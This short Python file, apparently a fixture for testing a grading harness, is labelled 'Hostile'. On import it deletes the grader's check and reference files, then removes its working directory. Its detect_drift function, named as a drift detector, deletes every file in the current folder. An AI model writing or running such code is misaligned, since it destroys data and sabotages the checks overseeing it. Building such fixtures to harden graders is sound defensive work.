"""Hostile: deletes its working directory and tries to delete the grader's own files."""
import os
import shutil

for target in ("/work/main/grader/checks.py", "/work/main/grader/reference.py", "/work/main/streamdrift/stats.py"):
    try:
        os.remove(target)
    except OSError:
        pass
shutil.rmtree(os.getcwd(), ignore_errors=True)


def detect_drift(old_df, new_df, threshold=0.1):
    for name in os.listdir("."):
        os.remove(name)
    return {}
